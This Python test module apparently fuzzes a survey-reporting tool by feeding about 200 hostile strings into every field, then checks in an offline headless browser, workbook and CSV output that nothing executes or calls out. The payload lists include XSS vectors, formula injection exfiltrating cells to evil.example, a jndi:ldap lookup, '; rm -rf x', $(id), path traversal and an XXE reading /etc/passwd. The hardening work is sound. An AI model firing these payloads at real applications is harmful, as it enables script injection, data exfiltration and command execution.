"""Hostile texts in every field that comes from outside: a whole run takes them for what they are.

Some 200 texts that are something else to some program (a script, a link, a formula, a way to
another folder, a change of direction, a picture's address) stand as title, wave, lens, unit, item,
label, language, header, respondent, comment, tie, reference and file name of one survey. All
notebooks run on it. Then the report is opened in a browser without a network, every chart drawn in
each of its choices and hovered over; workbook, csv files and notebooks are taken apart; and the
folders are compared with what they were.

What no reader takes are texts that are no text: a null sign, and bytes that are not UTF-8. Control
characters are dropped from names when they are read, and from all texts when they are published.
"""

from __future__ import annotations

import csv
import html.parser
import io
import itertools
import json
import re
import shutil
import subprocess
import sys
import unicodedata
import zipfile
from pathlib import Path

import nbformat.v4 as nb
import numpy as np
import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest

from cultureplus.charts.house import MARGIN_AXIS, View, empty_chart, figure, label, plain, words
from cultureplus.errors import InputError
from cultureplus.instrument import load_instruments
from cultureplus.intake import read_survey
from cultureplus.manifest import differences
from cultureplus.notebooks_run import read_notebook
from cultureplus.published import publish
from cultureplus.report import CHART_MIME, Chapter, published_tables, write_report
from cultureplus.spelling import plain_text, same_name
from tests.small_surveys import SALT

_DO = "window.taken=1"  # what each script would do: the page must not have it afterwards
_AT = "//evil.example/x"  # whom each address would ask

SCRIPTS = (
    f"<script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<SCRIPT SRC={_AT}.js></SCRIPT>",
    f"<script src='https:{_AT}.js'></script>",
    f"<scr<script>ipt>{_DO}</scr</script>ipt>",
    f"<!--<script>{_DO}</script>-->",
    f"--><script>{_DO}</script>",
    f"]]><script>{_DO}</script>",
    f"<script type=module>import('{_AT}.js')</script>",
    f"</style><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</td></tr></table><script>{_DO}</script>",
    f"</details></section><script>{_DO}</script>",
    f"'\"><script>{_DO}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={_DO}>">',
    f"<template><script>{_DO}</script></template>",
    f"\\u003cscript\\u003e{_DO}\\u003c/script\\u003e",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    f"+ADw-script+AD4-{_DO}+ADw-/script+AD4-",
    f"＜script＞{_DO}＜/script＞",  # becomes ASCII when names are tidied
    "</script ",
    "<!--<script ",
)
HANDLERS = (
    f"<img src=x onerror={_DO}>",
    f"<img/src=x/onerror={_DO}//",
    f"<body onload={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<details open ontoggle={_DO}>x</details>",
    f"<video><source onerror={_DO}></video>",
    f"<audio src=x onerror={_DO}>",
    f"<marquee onstart={_DO}>x</marquee>",
    f"<iframe onload={_DO}></iframe>",
    f"<select autofocus onfocus={_DO}>",
    f"<b onmouseover={_DO}>over</b>",
    f"<button onclick={_DO}>click</button>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_DO}>x</b>",
    f'" onmouseover="{_DO}',
    f"' onfocus='{_DO}' autofocus='",
    f"x onerror={_DO} y",
    f"` onerror={_DO} `",
    f"<object data=x onerror={_DO}></object>",
)
PICTURES = (
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><script href=data:,{_DO} /></svg>",
    f"<svg><a xlink:href='javascript:{_DO}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x dur=1s>",
    f"<svg><use href='https:{_AT}.svg#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_DO}</script>'></foreignObject></svg>",
    f"<svg><image href='https:{_AT}.png'/></svg>",
    f"<svg><style>@import '{_AT}.css';</style></svg>",
    f"<math href=javascript:{_DO}>x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_DO}>",
)
ADDRESSES = (
    f"javascript:{_DO}",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f"\x01javascript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cudGFrZW49MTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    f"<a href='javascript:{_DO}'>click</a>",
    f"<iframe src=javascript:{_DO}>",
    f"<iframe srcdoc='<script>{_DO}</script>'>",
    f"<base href={_AT}>",
    f"<meta http-equiv=refresh content='0;url=https:{_AT}'>",
    f"<link rel=stylesheet href={_AT}.css>",
    f"<link rel=prefetch href={_AT}>",
    f"<img src=https:{_AT}.png>",
    f"<embed src={_AT}>",
    f"<form action={_AT}><button>x",
    f"<style>@import url({_AT}.css)</style>",
    f"<div style=background:url({_AT}.png)>x</div>",
    f"<video poster={_AT}.png>",
    f"[x](javascript:{_DO})",
    f"![x](https:{_AT}.png)",
    f"https:{_AT}?leak",
    "file:///etc/passwd",
)
ENTITIES = (
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;script&#62;{_DO}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_DO}&#x3e;",
    "&amp;lt;b&amp;gt;",
    f"javascript&colon;{_DO}",
    "a&NewLine;b",
    "R&D",
    "&;",
    "&#0;",
    "&#xD800;",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{}",
    "{0.__class__}",
    "%s%s%n",
    "%(name)s",
    "%{y}",
    "%{meta.alt}",
    "%{customdata[0]}",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    "${jndi:ldap://evil.example/a}",
    "`id`",
    "$(id)",
    "; rm -rf x",
    "' OR 1=1 --",
    "__import__('os').getcwd()",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+3",
    "\n=1+4",
    "  =1+5",
    "\u00a0=1+6",
    "\u200b=1+7",
    "\ufeff=1+8",
    "＝1+9",  # ASCII once it is tidied, as are the next two
    "＋1+9",
    "＠SUM(9)",
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/";"//a")',
    'DDE("cmd";"/C calc";"x")',
    '=DDE("cmd";"/C calc";"x")',
    "'=1+10",
    '"=1+11"',
    '=1+12";"=1+12',
    ",=1+13",
    ";=1+14",
    "_x003D_1+15",
    "1E5",
    "007",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\x",
    "..",
    ".",
    "~root",
    "CON",
    "NUL",
    "aux.txt",
    "LPT1.csv",
    "a/b",
    "a:b",
    ".htaccess",
    "-rf",
    "*",
    "?",
    "report.html",
    "manifest.json",
    "../release-ledger.json",
    "\\\\evil.example\\share",
    "$HOME/x",
    "%TEMP%\\x",
    "..%2f..%2fx",
)
DIRECTIONS = (
    "\u202egnp.exe",
    "\u202dover\u202c",
    "\u2066isolated\u2069",
    "zero\u200bwidth",
    "join\u200der",
    "soft\u00adhyphen",
    "\u200emark\u200f",
    "\u061carabic mark",
    "line\u2028apart",
    "paragraph\u2029apart",
    "next\u0085line",
    "tag\U000e0041\U000e0042",
    "\u3164filler",
    "Аdmin",  # the first letter is Cyrillic
    "z" + "\u0301" * 60,
)
FORMULAE = (
    "$x^2$",
    "$$\\int_0^1$$",
    "\\(x\\)",
    "\\[y\\]",
    f"$\\href{{javascript:{_DO}}}{{x}}$",
    "\\unicode{60}",
    "\\require{html}",
    "\\begin{align}z\\end{align}",
    "$\\def\\x{\\x\\x}\\x$",
)
TERMINALS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click",
    "\x1b]0;title\x07",
    "\x1b[2Jgone",
    "\x9b31mred too",
    "bell\x07",
    "back\x08\x08",
    "delete\x7f",
)
MARKUP = (
    "<b>bold</b>",
    "<br>" * 30,
    "<sub>low</sub><sup>high</sup>",
    '<a href="https://evil.example">click</a>',
    f'<a href="javascript:{_DO}" target="_blank">click</a>',
    '<span style="font-size:99px;color:red">big</span>',
    "<extra></extra>",
    "%{text}<extra>%{fullData.name}</extra>",
    "%{xother} %{yother}",
)
BREAKERS = (
    '"',
    "''",
    '","',
    "a,b",
    "a;b",
    "a\tb c",
    "a|b",
    'a"b',
    "two\nlines",
    "two\r\nother lines",
    '{"a": 1}',
    "}]}",
    "null",
    "None",
    "nan",
    "N/A",
    "\\u0000",
    "\\ud800",
    "\\",
    "\\N",
    "\\n",
    "True",
    "all",
    "-99",
    '<?xml version="1.0"?>',
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "W" * 5000,
    "many words " * 400,
)
LABELS = (
    SCRIPTS + HANDLERS + PICTURES + ADDRESSES + ENTITIES + TEMPLATES + FORMULAS + PATHS
    + DIRECTIONS + FORMULAE + TERMINALS + MARKUP + BREAKERS
)  # fmt: skip


def test_there_are_many_and_none_twice():
    assert len(LABELS) >= 200
    assert len(set(LABELS)) == len(LABELS)


# --- the survey -----------------------------------------------------------------------------

LENS, SECOND = f"<img src=x onerror={_DO}>", "=cmd|'/C calc'!A0"
WAVE, BEFORE = f"../../<svg onload={_DO}>", "=2025+1"
TITLE = f"<script>{_DO}</script> $x$ =1+1 %{{y}}"
TENURE = "@SUM(1+1)"  # the adjusting column
EXPORTS = {BEFORE: "=1+1 <b>&$x$.csv", WAVE: "%{y} 'two' {{7*7}}.csv"}
LANGUAGES = ("<b>en</b>", "=de")
SIZE, TEAMS, FUNCTIONS, SECONDS = 144, 24, 4, 6  # people, and units of each lens
QUESTIONS = 6  # of an instrument of our own
SHORT = "collaboration_skill"  # asked in its short form
BUNDLED = {"psychological_safety": "ps", SHORT: "cs", "silo_barriers": "sb"}


def units_from(labels, count):
    """The next labels that tell units apart, once they are tidied."""
    found = {}
    while len(found) < count:
        label = next(labels)
        key = same_name(label)
        if key and key not in {same_name(each) for each in found}:
            found[label] = plain_text(label)
    return found


def toml(text):
    """A text as TOML has it in quotes, with every odd sign as its number."""
    odd = (sign if sign.isprintable() and sign not in '"\\' else None for sign in text)
    parts = zip(text, odd, strict=True)
    return '"' + "".join(sign if kept else f"\\U{ord(sign):08X}" for sign, kept in parts) + '"'


def instrument(name, labels, *, kind, published):
    """An instrument's file in which every text is hostile."""

    def texts(*keys):
        return "".join(f"{key} = {toml(next(labels))}\n" for key in keys)

    lines = f'id = "{name}"\nkind = "{kind}"\n' + texts(
        "title", "about", "referent", "source", "licence", "citation", "validity"
    )
    if kind == "rating":
        words = ", ".join(toml(next(labels)) for _ in range(5))
        lines += f"[answers]\nlow = 1\nhigh = 5\nfavourable = [4, 5]\nlabels = [{words}]\n"
        for part in ("one", "two"):
            lines += f'[[subscales]]\nid = "{part}"\n{texts("title")}'
        for item in range(QUESTIONS):
            part = "one" if item < QUESTIONS // 2 else "two"
            lines += f'[[items]]\nid = "{name}_{item}"\nsubscale = "{part}"\n{texts("text")}'
    else:
        for option in range(QUESTIONS):
            lines += f'[[options]]\nid = "o{option}"\n{texts("text")}'
    of = "" if kind == "rating" else f'scale = "{name}.o1"\n'
    statistic = "favourable" if kind == "rating" else "share"
    for number in range(published):
        lines += f'[[published]]\n{of}statistic = "{statistic}"\nvalue = 0.{number + 100}\n'
        lines += texts("source", "note")
    return lines


def answers_of(draw, people):
    """Answers per column of the export, made of one leaning per person and the team's."""
    teams = draw.normal(0, 0.7, TEAMS)[people["team"]]
    leaning = teams + draw.normal(0, 1, len(people["team"]))
    found = {}

    def rated(column, high, turned=1):
        raw = turned * leaning + draw.normal(0, 0.9, len(leaning))
        found[column] = np.clip(np.rint((high + 1) / 2 + raw * high / 5), 1, high).astype(int)

    known = load_instruments()
    for name in BUNDLED:
        for item in known[name].pulse().items if name == SHORT else known[name].items:
            sign = (-1 if item.reversed else 1) * (-1 if name == "silo_barriers" else 1)
            rated(item.id, known[name].high, sign)
    for item in range(QUESTIONS):
        rated(f"own_{item}", 5)
        found[f"other_o{item}"] = (draw.normal(0, 1, len(leaning)) < 0.3).astype(int)
    for option in known["barriers_named"].options:
        ticked = leaning + draw.normal(0, 1, len(leaning)) < -0.3
        found[f"barriers_named_{option.id}"] = (ticked & (option.id != "none")).astype(int)
    for function in range(FUNCTIONS):
        rated(f"seam {function}", 7)
    return found


class Hostile:
    """The survey's folder and what stands where in it."""

    def __init__(self, folder):
        folder.mkdir(parents=True)
        draw = np.random.default_rng(20261123)
        labels = itertools.cycle(LABELS)
        self.folder = folder
        self.texts = {
            "own": instrument("own", labels, kind="rating", published=60),
            "other": instrument("other", labels, kind="select_all", published=120),
        }  # fmt: skip
        self.functions = units_from(labels, FUNCTIONS)
        self.seconds = units_from(labels, SECONDS)
        self.teams = units_from(labels, TEAMS)
        self.headers = list(units_from(iter(LABELS), 70))
        self.answer_labels = {tongue: list(units_from(labels, 5)) for tongue in LANGUAGES}
        for name, text in self.texts.items():
            (folder / f"{name}.toml").write_text(text, encoding="utf-8")
        self.write(draw)

    def write(self, draw):
        place = np.arange(SIZE)
        people = {
            "team": place % TEAMS,
            "function": place % TEAMS % FUNCTIONS,
            "second": place // 5 % SECONDS,
        }
        self.ids = [f"{label}~{number}" for number, label in enumerate((LABELS * 2)[:SIZE])]
        answers = {wave: answers_of(draw, people) for wave in (BEFORE, WAVE)}
        header = dict(zip(answers[WAVE], self.headers, strict=False))
        for wave, table in answers.items():
            with (self.folder / EXPORTS[wave]).open("w", encoding="utf-8", newline="") as file:
                writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
                writer.writerow(
                    [
                        "=id",
                        "+seconds",
                        "-language",
                        "@comment",
                        "<i>unused</i>",
                        *(header[name] for name in table),
                    ]
                )
                for person in range(SIZE):
                    tongue = LANGUAGES[person % 2]
                    cells = [
                        ""
                        if name == f"seam {people['function'][person]}"
                        else self.answer_labels[tongue][column[person] - 1]
                        if name.startswith("own_")
                        else column[person]
                        for name, column in table.items()
                    ]
                    comment = LABELS[person % len(LABELS)]
                    writer.writerow(
                        [self.ids[person], 300 + person, tongue, comment, comment, *cells]
                    )
        with (self.folder / "=people.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(["<b>who</b>", "${function}", "{{second}}", "=team", TENURE])
            units = [list(each) for each in (self.functions, self.seconds, self.teams)]
            for person in range(SIZE):
                mine = [
                    units[spot][people[lens][person]]
                    for spot, lens in enumerate(("function", "second", "team"))
                ]
                writer.writerow([self.ids[person], *mine, 1 + person % 17])
        with (self.folder / "ties;$x$.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
            writer.writerow(["=from", "<to>"])
            for person in range(SIZE):
                for step in (1, FUNCTIONS, TEAMS, 2 * TEAMS):
                    writer.writerow([self.ids[person], self.ids[(person + step) % SIZE]])
                writer.writerow([self.ids[person], LABELS[person % len(LABELS)]])  # a stranger
        (self.folder / "survey.toml").write_text(self.settings(header), encoding="utf-8")

    def settings(self, header):
        """survey.toml; `header`: the hostile name of each column of the export."""

        def keys(pairs):
            return "".join(f"{toml(key)} = {toml(value)}\n" for key, value in pairs)

        def asked(name, columns, more=""):
            places = keys((key, header[column]) for key, column in columns)
            return f"[instruments.{name}]\n{more}[instruments.{name}.columns]\n{places}"

        def items(start):
            return [(column, column) for column in header if column.startswith(start)]

        def options(name):
            return [(column.removeprefix(name), column) for column, _ in items(name)]

        old = next(iter(self.teams))
        side = {"file": "=people.csv", "respondent": "<b>who</b>"}
        ties = {"file": "ties;$x$.csv", "from": "=from", "to": "<to>"}
        named = {
            "respondent": "=id", "seconds": "+seconds", "language": "-language",
            "comment": "@comment",
        }  # fmt: skip
        lenses = {LENS: "${function}", SECOND: "{{second}}", "team": "=team"}
        lines = f'title = {toml(TITLE)}\nkind = "plain"\n'
        lines += 'instrument_files = ["own.toml", "other.toml"]\n'
        lines += f'salt = "{SALT}"\n'
        lines += f"[waves]\n{keys(EXPORTS.items())}[columns]\n{keys(named.items())}"
        lines += f"[units]\n{keys(lenses.items())}[people]\n{keys(side.items())}"
        lines += f"[ties]\n{keys(ties.items())}[adjust]\ncolumns = [{toml(TENURE)}]\n"
        lines += f"[rename.team]\n{keys([(old, f'={plain_text(old)}')])}"
        for tongue, texts in self.answer_labels.items():
            lines += f"[labels.mixed.{toml(tongue)}]\n"
            lines += "".join(f"{toml(text)} = {number}\n" for number, text in enumerate(texts, 1))
        for name, short in BUNDLED.items():
            lines += asked(name, items(f"{short}_"), 'form = "pulse"\n' if name == SHORT else "")
        lines += asked("own", items("own_"), 'labels = "mixed"\n')
        lines += asked("other", options("other_"))
        lines += asked("barriers_named", options("barriers_named_"))
        seams = [(unit, f"seam {spot}") for spot, unit in enumerate(self.functions.values())]
        return lines + asked("seam_rating", seams, f"lens = {toml(LENS)}\n")


# --- the run --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """One run of all notebooks: where, what it was made of, what it said."""
    place = tmp_path_factory.mktemp("hostile")
    made = Hostile(place / "survey")
    before = files_below(place)
    code = "import sys; from cultureplus.cli import main; sys.exit(main(sys.argv[1:]))"
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", code, "run", "survey"],
        cwd=place, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    made.before, made.said, made.complaints = before, done.stdout, done.stderr
    (made.report,) = (path.parent for path in (place / "reports").glob("*/report.html"))
    return made


def files_below(folder):
    return {path.relative_to(folder).as_posix(): path.stat().st_size for path in folder.rglob("*")}


def notebooks_of(run):
    return [read_notebook(path) for path in sorted((run.report / "notebooks").glob("*.ipynb"))]


def tables_of(run):
    return [table for each in notebooks_of(run) for table in published_tables(each)]


@pytest.mark.slow
def test_every_text_is_published_somewhere(run):
    """Or the other tests would say little: tidied, each stands in a cell of some table."""
    told = {cell for table in tables_of(run) for row in table["rows"] for cell in row}
    told = {plain_text(cell) for cell in told if isinstance(cell, str)}
    missing = [label for label in LABELS if plain_text(label) not in told]
    assert missing == []
    for unit in (*run.functions.values(), *run.seconds.values()):
        assert unit in told


@pytest.mark.slow
def test_a_run_writes_into_its_report_and_nowhere_else(run):
    """And no name of a file is anything but small letters, digits and underscores."""
    place = run.folder.parent
    after = files_below(place)
    assert {name: size for name, size in after.items() if name in run.before} == run.before
    new = [name for name in after if name not in run.before and name != "reports"]
    inside = [name for name in new if name.startswith(f"reports/{run.report.name}")]
    assert set(new) - set(inside) == {"reports/release-ledger.json"}
    for name in inside:
        assert re.fullmatch(r"[a-z0-9_]+(\.[a-z]+)?", Path(name).name), name
    assert differences(run.report) == []


@pytest.mark.slow
def test_a_run_says_its_steps_and_no_text_of_the_survey(run):
    assert run.complaints == ""
    lines = run.said.splitlines()
    assert all(re.fullmatch(r"step \d+ of \d+: [a-z0-9 ]+", line) for line in lines[:-1])
    assert lines[-1].endswith(f"/reports/{run.report.name}/report.html")


@pytest.mark.slow
def test_no_cell_of_the_workbook_is_live(run):
    path = run.report / "tables" / "tables.xlsx"
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n", "b"}
    assert not [cell for cell in cells if cell.hyperlink or cell.comment]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.lstrip()[:1] in {*"=+-@"}]
    assert len([text for text in texts if text[1:].lstrip()[:1] in {*"=+@"}]) > 20
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            assert re.fullmatch(r"[\w./\[\]]+\.(xml|rels)", name), name
            content = parts.read(name)
            assert b"TargetMode" not in content
            assert not re.search(
                rb"<(\w+:)?(f|hyperlink|ddeLink|oleLink|definedName)[\s>/]", content
            )
            assert "externalLink" not in name


@pytest.mark.slow
def test_no_cell_of_a_csv_is_live(run):
    quoted = 0
    for path in (run.report / "tables").glob("*.csv"):
        text = path.read_bytes().decode("utf-8-sig")
        assert not [
            sign for sign in text if unicodedata.category(sign) == "Cc" and sign not in "\n\t"
        ]
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        assert len({len(row) for row in rows}) == 1, path.name
        for cell in itertools.chain(*rows):
            first = cell.lstrip()[:1]
            number = re.fullmatch(r"-\d+(\.\d+)?(e-\d+)?", cell)
            assert first not in {*"=+-@"} or number, (path.name, cell)
            quoted += cell[:1] == "'" and cell[1:].lstrip()[:1] in {*"=+-@"}
    assert quoted > 20


class Tags(html.parser.HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, frozenset(name for name, _ in attrs)))


@pytest.mark.slow
def test_no_output_of_a_notebook_is_more_than_a_table_or_a_chart(run):
    kinds = {"text/plain", "text/html"}
    seen = 0
    for notebook in notebooks_of(run):
        for cell in notebook.cells:
            for output in cell.get("outputs", []):
                assert output.output_type in ("execute_result", "display_data"), output
                extra = set(output.data) - kinds
                assert extra <= {CHART_MIME} or all("cultureplus" in kind for kind in extra)
                for tag, attributes in Tags(output.data.get("text/html", "")).found:
                    assert tag in {"table", "caption", "thead", "tbody", "tr", "th", "td", "p"}
                    assert attributes <= {"class"}
                    seen += 1
    assert seen > 1000


@pytest.mark.slow
def test_every_json_file_is_whole(run):
    numbers = json.loads((run.report / "key_numbers.json").read_text("utf-8"))
    assert numbers["wave"] == WAVE
    manifest = json.loads((run.report / "manifest.json").read_text("utf-8"))
    assert set(EXPORTS.values()) <= set(manifest["inputs"])


# --- what is refused, and what an error says ------------------------------------------------


def spoilt(folder, name, change):
    """A survey's folder after one of its files was changed, as bytes."""
    path = folder / name
    path.write_bytes(change(path.read_bytes()))
    return folder


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    return Hostile(tmp_path_factory.mktemp("refused") / "survey")


@pytest.mark.parametrize(
    ("sign", "sentence"), [(b"\0", "This is not text."), (b"\xff", "This is not UTF-8 text.")]
)
@pytest.mark.parametrize("name", [EXPORTS[WAVE], "=people.csv", "ties;$x$.csv"])
def test_what_is_no_text_is_refused_with_one_error(made, tmp_path, name, sign, sentence):
    shutil.copytree(made.folder, tmp_path / "survey")
    folder = spoilt(tmp_path / "survey", name, lambda data: data[:-9] + sign + data[-9:])
    with pytest.raises(InputError) as caught:
        read_survey(folder)
    assert caught.value.sentence == sentence
    assert str(caught.value).startswith(f"{name}")


@pytest.mark.parametrize("sign", [b"\0", b"\x1b", b"\x7f", b"\xff"])
@pytest.mark.parametrize("name", ["survey.toml", "own.toml"])
def test_raw_control_signs_in_toml_are_refused_with_one_error(made, tmp_path, name, sign):
    shutil.copytree(made.folder, tmp_path / "survey")
    folder = spoilt(tmp_path / "survey", name, lambda data: data.replace(b'"', b'"' + sign, 1))
    with pytest.raises(InputError, match=r"not valid TOML|not UTF-8") as caught:
        read_survey(folder)
    assert "\x1b" not in str(caught.value)


FIELDS = {
    "an answer": (EXPORTS[WAVE], -1),
    "a tick": (EXPORTS[WAVE], 40),
    "a respondent nobody invited": (EXPORTS[WAVE], 0),
    "an adjusting number": ("=people.csv", -1),
}


@pytest.mark.parametrize("field", FIELDS)
def test_an_error_about_a_cell_names_its_place_and_not_its_content(made, tmp_path, field):
    """The worst cell of all: everything hostile at once, and a secret."""
    name, column = FIELDS[field]
    shutil.copytree(made.folder, tmp_path / "survey")
    path = tmp_path / "survey" / name
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    secret = "CANARY-4711 " + " ".join(LABELS).replace("\0", "")
    rows[3][column] = secret
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows(rows)
    with pytest.raises(InputError) as caught:
        read_survey(tmp_path / "survey")
    said = str(caught.value)
    assert name in said
    assert "row 4" in said
    assert "CANARY" not in said
    assert "evil.example" not in said.replace(rows[0][column], "")  # a header may be named


def test_control_signs_never_reach_a_terminal_by_a_name():
    for text in LABELS:
        assert not [sign for sign in plain_text(text) if unicodedata.category(sign) == "Cc"]


def test_control_signs_are_not_published():
    frame = pd.DataFrame([["\x1b[2Jgone\x9b31m\x7f\tand\r\nhere"]], columns=["bell\x07"])
    data = publish(frame, "t").as_data()
    assert (data["columns"], data["rows"]) == (["bell"], [["[2Jgone31m\tand\nhere"]])


# --- the browser ----------------------------------------------------------------------------

CHROMIUM = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
# Each choice of each menu is drawn, and each trace hovered over at its first and last point.
EVERYTHING = """async () => {
  const seen = [];
  for (const box of document.querySelectorAll(".chart")) {
    const choices = (box.layout.updatemenus || []).flatMap(menu => menu.buttons);
    for (const choice of [null, ...choices]) {
      if (choice) { await Plotly.update(box, choice.args[0], choice.args[1]); }
      for (const [number, trace] of box._fullData.entries()) {
        const last = (trace.x || trace.values || []).length - 1;
        for (const point of trace.visible === true ? [0, last] : []) {
          try { Plotly.Fx.hover(box, [{curveNumber: number, pointNumber: point}]); }
          catch (problem) { if (trace.type !== "heatmap") { throw problem; } }
        }
      }
    }
    seen.push({id: box.id, choices: choices.length,
      pictures: box.querySelectorAll("svg.main-svg").length,
      marks: box.querySelectorAll(".bars .point, .heatmaplayer image, .scatterlayer path, " +
        ".textpoint, .annotation-text, .heatmap-label text").length});
  }
  return seen;
}"""
# Whatever in a page may lead, ask or run.
LIVE = """() => [...document.querySelectorAll("*")].flatMap(node =>
  [...node.attributes].filter(mark => /^on/.test(mark.name) ||
    (/(^|:)(href|src|srcdoc|action|data)$/.test(mark.name) &&
      !/^(#|data:image[/]png)/.test(mark.value)))
  .map(mark => node.tagName + " " + mark.name + "=" + mark.value.slice(0, 60)))"""


class Opened:
    """A page that was opened, with everything that it asked for, said and complained about."""

    def __init__(self, browser, path):
        self.context = browser.new_context(offline=True)
        page = self.page = self.context.new_page()
        self.requests, self.dialogs, self.complaints = [], [], []
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("console", lambda message: self.complaints.append(message.text))
        page.on("pageerror", lambda problem: self.complaints.append(str(problem)))
        page.on("dialog", self.refuse)
        page.on("popup", lambda other: self.dialogs.append(other.url))
        page.add_init_script(
            "window.refused = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.refused.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.goto(path.as_uri())
        page.wait_for_function(
            "[...document.querySelectorAll('.chart')].every(c => c.querySelector('.main-svg'))"
        )

    def refuse(self, dialog):
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def harm(self):
        """What ran, was asked for, refused or complained about, beside the page itself."""
        found = [*self.requests[1:], *self.dialogs, *self.complaints]
        found += self.page.evaluate("window.refused") + self.page.evaluate(LIVE)
        return [*found, *(["a script ran"] if self.page.evaluate("'taken' in window") else [])]


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("there is no Chromium on this machine")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with sync_api.sync_playwright() as driver:
        chromium = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


@pytest.mark.slow
@pytest.mark.browser
def test_in_a_browser_nothing_runs_and_nothing_is_asked_for(run, browser):
    opened = Opened(browser, run.report / "report.html")
    charts = opened.page.evaluate(EVERYTHING)
    harm = opened.harm()
    title = opened.page.locator("h1").inner_text()
    opened.context.close()
    assert harm == []
    assert title == TITLE
    assert len(charts) >= 12
    assert [chart for chart in charts if not chart["pictures"] or chart["marks"] < 3] == []
    assert sum(chart["choices"] for chart in charts) >= 12


@pytest.mark.slow
@pytest.mark.browser
def test_every_text_in_a_chart_a_table_and_a_title(browser, tmp_path):
    """Label of a row, words, hover text, menu, note, title, cell, header, caption, prose."""
    rows = [label(text) for text in LABELS]
    place = list(range(len(rows)))
    traces = [words(LABELS, place)]
    for start in range(0, len(rows), 16):  # hovered over at its first and last point
        part = slice(start, start + 16)
        traces.append(
            go.Scatter(
                x=place[part], y=place[part], mode="markers+text", text=rows[part],
                customdata=rows[part], name=rows[start], hovertemplate="%{text} %{customdata}",
            )
        )  # fmt: skip
    one = View("one", traces, rows, LABELS[2], LABELS[3:5])
    few = [
        View(text, [words([text], [0], axis="x")], [label(text)], text, [text])
        for text in LABELS[::9]
    ]
    drawn = [
        figure(views, title=rows[0], alt=plain(LABELS[1]), chart="c", table="t", layout=layout)
        for views, layout in (([one], {"xaxis2": MARGIN_AXIS}), (few, {}))
    ]
    nothing = [empty_chart(text, text) for text in LABELS[::8]]
    frame = pd.DataFrame({"unit": LABELS, "shown": True, "reason": LABELS[::-1]})
    frame = frame.assign(**dict.fromkeys(LABELS[::10], 1.5))
    tables = [publish(frame, "all", LABELS[5])._repr_mimebundle_()]
    charts = [{CHART_MIME: json.loads(each.to_json())} for each in (*drawn, *nothing)]
    outputs = [nb.new_output("display_data", data=data) for data in (*tables, *charts)]
    prose = nb.new_markdown_cell("# Title " + LABELS[0] + "\n\n" + "\n\n".join(LABELS))
    notebook = nb.new_notebook(cells=[prose, nb.new_code_cell("x", outputs=outputs)])
    path = tmp_path / "report.html"
    title = " ".join(LABELS)
    page = write_report([Chapter("1_all", notebook)], title=title, subtitle=title)
    path.write_text(page, encoding="utf-8")
    opened = Opened(browser, path)
    seen = opened.page.evaluate(EVERYTHING)
    harm, heading = opened.harm(), opened.page.locator("h1").text_content()
    opened.context.close()
    assert harm == []
